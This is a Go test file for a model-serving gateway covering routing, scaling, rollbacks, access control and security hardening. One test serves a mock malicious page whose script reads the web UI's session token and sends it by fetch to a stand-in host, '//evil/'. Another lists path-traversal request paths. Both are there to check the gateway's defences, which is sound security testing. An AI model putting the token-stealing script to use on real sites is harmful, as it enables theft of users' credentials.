package server

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nai-project/nai/api"
	"github.com/nai-project/nai/fsm"
	"github.com/nai-project/nai/structs"
)

// serviceNode is a node with service ports.
func serviceNode(id string, gpus int) *structs.Node {
	n := testNode(id, gpus)
	n.ServicePorts = structs.PortRange{First: 20000, Last: 20009}
	return n
}

// pushModel uploads a model version with a serve command (nil: none).
func pushModel(t *testing.T, c *api.Client, name string, serve []string) int {
	t.Helper()
	ctx := context.Background()
	info, err := c.UploadBlob(ctx, strings.NewReader(fmt.Sprintf("weights of %s %v %d", name, serve, time.Now().UnixNano())))
	if err != nil {
		t.Fatal(err)
	}
	resp, err := c.PushArtifact(ctx, structs.KindModel, name, &structs.ArtifactPushRequest{Digest: info.Digest, Size: info.Size, Serve: serve})
	if err != nil {
		t.Fatal(err)
	}
	return resp.Version
}

// replicaBackend is a stand-in for a replica's process: it answers with
// its name.
func replicaBackend(t *testing.T, name string, hits *atomic.Int64) string {
	t.Helper()
	hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if hits != nil {
			hits.Add(1)
		}
		fmt.Fprintf(w, "%s %s", name, r.URL.Path)
	}))
	t.Cleanup(hs.Close)
	return strings.TrimPrefix(hs.URL, "http://")
}

// liveReplicas waits until the service's current version has n replicas
// placed and returns them.
func liveReplicas(t *testing.T, c *api.Client, name string, n int) []structs.ReplicaStatus {
	t.Helper()
	var out []structs.ReplicaStatus
	waitUntil(t, fmt.Sprintf("%d replicas of %s placed", n, name), func() bool {
		s, _, err := c.Service(context.Background(), name)
		if err != nil {
			t.Fatal(err)
		}
		out = out[:0]
		for _, r := range s.Replicas {
			if !r.Stopping && r.Version == s.Version {
				out = append(out, r)
			}
		}
		return len(out) == n
	})
	return out
}

// reportHealth reports, as the replica's client would, that it runs at
// addr, healthy or not.
func reportHealth(t *testing.T, s *Server, allocID, addr string, healthy bool, why string) {
	t.Helper()
	_, _, err := s.apply(fsm.AllocUpdate, &structs.AllocUpdateRequest{Now: time.Now(), Updates: []*structs.AllocUpdate{{AllocID: allocID,
		Client: structs.ClientStatusFields{Status: structs.AllocRunning, Service: &structs.ReplicaHealth{Address: addr, Healthy: healthy, HealthError: why}}}}})
	if err != nil {
		t.Fatal(err)
	}
}

// call sends a request through the gateway and returns status and body.
func call(t *testing.T, c *api.Client, method, name, path, token string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest(method, c.Address()+"/v1/services/"+name+path, nil)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func TestServeAndCallThroughGateway(t *testing.T) {
	s, c := testServer(t, t.TempDir())
	ctx := context.Background()
	if err := c.RegisterNode(ctx, serviceNode("n1", 4), ""); err != nil {
		t.Fatal(err)
	}
	pushModel(t, c, "digits", []string{"python3", "serve.py"})
	resp, err := c.Serve(ctx, &structs.ServeRequest{Model: "digits", Replicas: 2, GPUs: 1})
	if err != nil {
		t.Fatal(err)
	}
	j, _, err := c.Job(ctx, resp.JobID)
	if err != nil {
		t.Fatal(err)
	}
	if !j.IsService() || j.Models[0].Version != "1" || !strings.Contains(j.Task.Script, `cd "$NAI_MODEL_DIR" && exec python3 serve.py`) || !j.Service.ModelCommand {
		t.Errorf("job %+v: want a service running the model's serve command in its directory", j)
	}
	reps := liveReplicas(t, c, "digits", 2)

	// No replica healthy yet: 503 naming the service, at once.
	code, body := call(t, c, "GET", "digits", "/predict", "")
	if code != http.StatusServiceUnavailable || !strings.Contains(body, `service \"digits\" is unavailable`) {
		t.Errorf("before health: %d %s", code, body)
	}
	var hits [2]atomic.Int64
	for i, r := range reps {
		reportHealth(t, s, r.AllocID, replicaBackend(t, fmt.Sprintf("r%d", r.Replica), &hits[i]), true, "")
	}
	waitUntil(t, "the gateway sees both replicas", func() bool {
		sv := s.gateway.Lookup("digits")
		return sv != nil && len(sv.Replicas) == 2
	})
	for range 10 {
		code, body := call(t, c, "POST", "digits", "/predict?x=1", "")
		if code != 200 || !strings.HasSuffix(body, " /predict") {
			t.Fatalf("call: %d %q", code, body)
		}
	}
	if hits[0].Load() == 0 || hits[1].Load() == 0 {
		t.Errorf("hits %d and %d: want both replicas used", hits[0].Load(), hits[1].Load())
	}
	st, _, err := c.Service(ctx, "digits")
	if err != nil || st.Healthy != 2 || st.Desired != 2 || st.Model != "digits:1" {
		t.Errorf("status %+v, %v", st, err)
	}
	list, err := c.Services(ctx)
	if err != nil || len(list) != 1 || list[0].Name != "digits" {
		t.Errorf("list %v, %v", list, err)
	}

	// Scale down: replica 1 stops, and the gateway stops using it.
	if _, err := c.ScaleService(ctx, "digits", 1); err != nil {
		t.Fatal(err)
	}
	waitUntil(t, "one replica left in the gateway", func() bool { return len(s.gateway.Lookup("digits").Replicas) == 1 })

	// Stop: the service ends and its name answers 404.
	if _, err := c.StopService(ctx, "digits"); err != nil {
		t.Fatal(err)
	}
	waitUntil(t, "the gateway forgets the service", func() bool { return s.gateway.Lookup("digits") == nil })
	if code, body := call(t, c, "GET", "digits", "/", ""); code != http.StatusNotFound {
		t.Errorf("after stop: %d %s", code, body)
	}
}

func TestServiceBadInput(t *testing.T) {
	s, c := testServer(t, t.TempDir())
	ctx := context.Background()
	if err := c.RegisterNode(ctx, serviceNode("n1", 2), ""); err != nil {
		t.Fatal(err)
	}
	pushModel(t, c, "bare", nil)
	pushModel(t, c, "digits", []string{"python3", "serve.py"})
	if _, err := c.Serve(ctx, &structs.ServeRequest{Model: "digits"}); err != nil {
		t.Fatal(err)
	}
	bad := func(name string, err error, code structs.ErrorCode, want string) {
		t.Helper()
		if structs.CodeOf(err) != code || err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want %s mentioning %q", name, err, code, want)
		}
	}
	_, err := c.Serve(ctx, &structs.ServeRequest{Model: "bare"})
	bad("a model without a serve command", err, structs.CodeInvalid, "has no serve command")
	_, err = c.Serve(ctx, &structs.ServeRequest{Model: "bare", Command: []string{"python3", "app.py"}, Name: "bare"})
	if err != nil {
		t.Errorf("a model without a serve command, with one given: %v", err)
	}
	_, err = c.Serve(ctx, &structs.ServeRequest{Model: "digits"})
	bad("a second service of one name", err, structs.CodeConflict, "already runs")
	_, err = c.Serve(ctx, &structs.ServeRequest{Model: "digits", Name: "d2", Replicas: -1})
	bad("negative replicas", err, structs.CodeInvalid, "replicas -1 is out of range")
	_, err = c.Serve(ctx, &structs.ServeRequest{Model: "nope"})
	bad("an unknown model", err, structs.CodeNotFound, `model "nope" does not exist`)
	_, err = c.Serve(ctx, &structs.ServeRequest{Model: "digits:9", Name: "d3"})
	bad("an unknown version", err, structs.CodeNotFound, "has no version 9")
	_, err = c.ScaleService(ctx, "digits", 0)
	bad("scale to 0", err, structs.CodeInvalid, "replicas 0 is out of range")
	_, err = c.ScaleService(ctx, "nope", 2)
	bad("scale an unknown service", err, structs.CodeNotFound, `no service named "nope"`)
	_, err = c.UpdateService(ctx, "digits", &structs.ServiceUpdateRequest{})
	bad("an update that changes nothing", err, structs.CodeInvalid, "nothing to change")
	_, err = c.UpdateService(ctx, "digits", &structs.ServiceUpdateRequest{Model: "digits:1"})
	bad("a rollout to what runs", err, structs.CodeConflict, "nothing to roll out")
	_, err = c.UpdateService(ctx, "digits", &structs.ServiceUpdateRequest{Model: "bare"})
	bad("a rollout to a model without a serve command", err, structs.CodeInvalid, "has no serve command")

	// Paths that leave the service are refused before routing.
	h := GuardServicePaths(http.NotFoundHandler())
	for _, p := range []string{"/v1/services/digits/../jobs", "/v1/services/digits/%2e%2e/x", "/v1/services/digits/a%2F..%2Fb", "/v1/services/digits//x", "/v1/services/../v1/jobs"} {
		req := httptest.NewRequest("GET", "http://x"+p, nil)
		w := httptest.NewRecorder()
		h.ServeHTTP(w, req)
		if w.Code != http.StatusBadRequest || !strings.Contains(w.Body.String(), "refused") {
			t.Errorf("%s: %d %s, want 400", p, w.Code, w.Body)
		}
	}
	_ = s
}

func TestRolloutRolledBackAtDeadline(t *testing.T) {
	s, c := testServer(t, t.TempDir())
	ctx := context.Background()
	if err := c.RegisterNode(ctx, serviceNode("n1", 4), ""); err != nil {
		t.Fatal(err)
	}
	pushModel(t, c, "m", []string{"python3", "serve.py"})
	pushModel(t, c, "m", []string{"python3", "serve.py", "--v2"})
	if _, err := c.Serve(ctx, &structs.ServeRequest{Model: "m:1"}); err != nil {
		t.Fatal(err)
	}
	old := liveReplicas(t, c, "m", 1)
	reportHealth(t, s, old[0].AllocID, replicaBackend(t, "old", nil), true, "")
	resp, err := c.UpdateService(ctx, "m", &structs.ServiceUpdateRequest{Model: "m:2", Timeout: structs.Duration(time.Minute)})
	if err != nil || resp.Version != 2 {
		t.Fatalf("rollout: %+v, %v", resp, err)
	}
	neu := liveReplicas(t, c, "m", 1)
	reportHealth(t, s, neu[0].AllocID, "127.0.0.1:1", false, "GET /health: no answer within 1s")
	// Traffic still goes to the old replica.
	if code, body := call(t, c, "GET", "m", "/x", ""); code != 200 || !strings.HasPrefix(body, "old") {
		t.Errorf("during the rollout: %d %s", code, body)
	}
	if err := s.rollbackLateRollouts(time.Now().Add(2 * time.Minute)); err != nil {
		t.Fatal(err)
	}
	st, _, err := c.Service(ctx, "m")
	if err != nil {
		t.Fatal(err)
	}
	if st.Version != 1 || st.Rollout.Status != structs.RolloutRolledBack || !strings.Contains(st.Rollout.Reason, "no answer within 1s") ||
		!strings.Contains(st.Rollout.Reason, "0 of 1 new replicas healthy") {
		t.Errorf("after the deadline: version %d rollout %+v", st.Version, st.Rollout)
	}
	for _, r := range st.Replicas {
		if r.Version == 2 && !r.Stopping {
			t.Errorf("new replica %s still meant to run", r.AllocID)
		}
	}
}

// svcACL is a server with ACLs on: a management token, users in every
// relation to group "vision" (owner u1 a member, u3 a reader, u2 a
// stranger, op an operator) with a token each, and u1's model "digits".
type svcACL struct {
	s       *Server
	base    string
	secrets map[string]string
}

func newSvcACL(t *testing.T) *svcACL {
	t.Helper()
	s, anon := testServer(t, t.TempDir(), func(c *Config) { c.ACL.Enabled = true })
	ctx := context.Background()
	boot, err := anon.ACLBootstrap(ctx)
	if err != nil {
		t.Fatal(err)
	}
	f := &svcACL{s: s, base: anon.Address(), secrets: map[string]string{"management": boot.SecretID}}
	mgmt := anon.WithToken(boot.SecretID)
	for _, u := range []string{"u1", "u2", "u3", "op"} {
		if _, err := mgmt.CreateUser(ctx, &structs.User{Name: u}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := mgmt.CreateGroup(ctx, &structs.Group{Name: "vision", Members: []structs.GroupMember{
		{User: "u1", Role: structs.RoleMember}, {User: "u3", Role: structs.RoleReader}}}); err != nil {
		t.Fatal(err)
	}
	for caller, u := range map[string]string{"owner": "u1", "stranger": "u2", "reader": "u3", "operator": "op", "revoked": "u1"} {
		spec := &structs.TokenCreateSpec{User: u, Name: caller}
		if caller == "operator" {
			spec.Policies = []string{structs.PolicyOperator}
		}
		tok, err := mgmt.CreateToken(ctx, spec)
		if err != nil {
			t.Fatal(err)
		}
		f.secrets[caller] = tok.SecretID
		if caller == "revoked" {
			if err := mgmt.RevokeToken(ctx, tok.AccessorID); err != nil {
				t.Fatal(err)
			}
		}
	}
	owner := anon.WithToken(f.secrets["owner"])
	info, err := owner.UploadBlob(ctx, strings.NewReader("model bytes"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := owner.PushArtifact(ctx, structs.KindModel, "digits", &structs.ArtifactPushRequest{Digest: info.Digest, Group: "vision"}); err != nil {
		t.Fatal(err)
	}
	return f
}

func TestServiceAccess(t *testing.T) {
	f := newSvcACL(t)
	ctx := context.Background()
	mgmt, _ := api.New(api.Config{Address: f.base, Token: f.secrets["management"]})
	owner, _ := api.New(api.Config{Address: f.base, Token: f.secrets["owner"]})
	if err := mgmt.RegisterNode(ctx, serviceNode("s1", 2), "node-secret-service-0123456789abcdefghij"); err != nil {
		t.Fatal(err)
	}
	// The fixture's model "digits" has no serve command: give one.
	for _, public := range []bool{false, true} {
		name := fmt.Sprintf("svc-public-%v", public)
		if _, err := owner.Serve(ctx, &structs.ServeRequest{Model: "digits", Name: name, Group: "vision", Public: public, Command: []string{"python3", "app.py"}}); err != nil {
			t.Fatal(err)
		}
		reps := liveReplicas(t, owner, name, 1)
		reportHealth(t, f.s, reps[0].AllocID, replicaBackend(t, name, nil), true, "")
	}
	waitUntil(t, "both services routable", func() bool {
		a, b := f.s.gateway.Lookup("svc-public-false"), f.s.gateway.Lookup("svc-public-true")
		return a != nil && b != nil && len(a.Replicas) == 1 && len(b.Replicas) == 1
	})
	for _, tc := range []struct {
		caller       string
		private, pub int
	}{
		{"none", http.StatusUnauthorized, 200},
		{"revoked", http.StatusUnauthorized, 200},
		{"stranger", http.StatusForbidden, 200},
		{"reader", 200, 200},
		{"owner", 200, 200},
		{"operator", 200, 200},
	} {
		if code, body := call(t, owner, "GET", "svc-public-false", "/", f.secrets[tc.caller]); code != tc.private {
			t.Errorf("%s calls the private service: %d %s, want %d", tc.caller, code, body, tc.private)
		}
		if code, body := call(t, owner, "GET", "svc-public-true", "/", f.secrets[tc.caller]); code != tc.pub {
			t.Errorf("%s calls the public service: %d %s, want %d", tc.caller, code, body, tc.pub)
		}
	}
	// Managing needs rights on the group: a reader may look, not scale.
	reader, _ := api.New(api.Config{Address: f.base, Token: f.secrets["reader"]})
	if _, _, err := reader.Service(ctx, "svc-public-false"); err != nil {
		t.Errorf("reader status: %v", err)
	}
	if _, err := reader.ScaleService(ctx, "svc-public-false", 2); !api.IsForbidden(err) {
		t.Errorf("reader scales: %v, want forbidden", err)
	}
	stranger, _ := api.New(api.Config{Address: f.base, Token: f.secrets["stranger"]})
	if list, err := stranger.Services(ctx); err != nil || len(list) != 0 {
		t.Errorf("a stranger lists %v, %v", list, err)
	}
	// A service the gateway's table does not hold yet is judged from
	// state: refused callers are refused, allowed ones hear it has no
	// replica running yet (placed or not: the leader may have planned it
	// already).
	if _, err := owner.Serve(ctx, &structs.ServeRequest{Model: "digits", Name: "fresh", Group: "vision", Command: []string{"true"}}); err != nil {
		t.Fatal(err)
	}
	f.s.gateway.Update(0, nil) // as if the table lagged
	if code, _ := call(t, owner, "GET", "fresh", "/", f.secrets["stranger"]); code != http.StatusForbidden {
		t.Errorf("stranger calls a service not in the table yet: %d, want 403", code)
	}
	if code, body := call(t, owner, "GET", "fresh", "/", f.secrets["reader"]); code != http.StatusServiceUnavailable ||
		!(strings.Contains(body, "no replica running yet") || strings.Contains(body, "not started yet")) {
		t.Errorf("reader calls a service not in the table yet: %d %s, want 503", code, body)
	}
	var body struct {
		Error structs.Error `json:"error"`
	}
	_, b := call(t, owner, "GET", "svc-public-false", "/", "")
	if json.Unmarshal([]byte(b), &body) != nil || !strings.Contains(body.Error.Message, "needs a token") {
		t.Errorf("anonymous call answer %s", b)
	}
}

// TestServiceAnswersSandboxed: a service is served on the servers' origin,
// where the web UI keeps its token in sessionStorage, so a replica's page
// could open /ui/ and read it. Every answer through the gateway carries a
// sandbox CSP (an opaque origin), whatever the replica sent, and nosniff.
func TestServiceAnswersSandboxed(t *testing.T) {
	s, c := testServer(t, t.TempDir())
	ctx := context.Background()
	if err := c.RegisterNode(ctx, serviceNode("n1", 4), ""); err != nil {
		t.Fatal(err)
	}
	pushModel(t, c, "page", []string{"python3", "serve.py"})
	if _, err := c.Serve(ctx, &structs.ServeRequest{Model: "page", Replicas: 1, GPUs: 1}); err != nil {
		t.Fatal(err)
	}
	reps := liveReplicas(t, c, "page", 1)
	backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// A malicious page: its own lax policy, and a script that would
		// read the UI's token from the same origin.
		w.Header().Set("Content-Security-Policy", "default-src *")
		w.Header().Set("Content-Security-Policy-Report-Only", "default-src *")
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<script>const u = window.open('/ui/'); setTimeout(() => fetch('//evil/' + u.sessionStorage.getItem('token')), 500)</script>`)
	}))
	t.Cleanup(backend.Close)
	reportHealth(t, s, reps[0].AllocID, strings.TrimPrefix(backend.URL, "http://"), true, "")
	waitUntil(t, "the gateway sees the replica", func() bool {
		sv := s.gateway.Lookup("page")
		return sv != nil && len(sv.Replicas) == 1
	})
	for _, path := range []string{"/", "/index.html"} {
		res, err := http.Get(c.Address() + "/v1/services/page" + path)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if res.StatusCode != 200 || !strings.Contains(string(body), "window.open") {
			t.Fatalf("%s: %d %s", path, res.StatusCode, body)
		}
		if got := res.Header.Values("Content-Security-Policy"); len(got) != 1 || got[0] != "sandbox allow-scripts allow-forms allow-popups allow-downloads" {
			t.Errorf("%s: Content-Security-Policy %q: want only the sandbox, overriding the replica's", path, got)
		}
		if got := res.Header.Get("Content-Security-Policy-Report-Only"); got != "" {
			t.Errorf("%s: the replica's report-only policy passed: %q", path, got)
		}
		if got := res.Header.Get("X-Content-Type-Options"); got != "nosniff" {
			t.Errorf("%s: X-Content-Type-Options %q, want nosniff", path, got)
		}
	}
}

// TestRollbackReasonRestarts: a replica that restarted once is said to
// have restarted once, not "1 times".
func TestRollbackReasonRestarts(t *testing.T) {
	j := &structs.Job{Version: 2, Service: &structs.ServiceSpec{Replicas: 2}}
	replica := func(n, restarts int) *structs.Allocation {
		return &structs.Allocation{ID: fmt.Sprintf("7.%d", n), Replica: n, JobVersion: 2, DesiredStatus: structs.DesiredRun,
			ClientStatus: structs.ClientStatusFields{Status: structs.AllocRunning,
				Service: &structs.ReplicaHealth{HealthError: "GET /health: 500", Restarts: restarts}}}
	}
	got := rollbackReason(j, []*structs.Allocation{replica(0, 1), replica(1, 3)}, time.Minute)
	want := "0 of 2 new replicas healthy after 1m0s: replica 0 (7.0): unhealthy: GET /health: 500 (restarted once); replica 1 (7.1): unhealthy: GET /health: 500 (restarted 3 times)"
	if got != want {
		t.Errorf("rollbackReason = %q, want %q", got, want)
	}
}
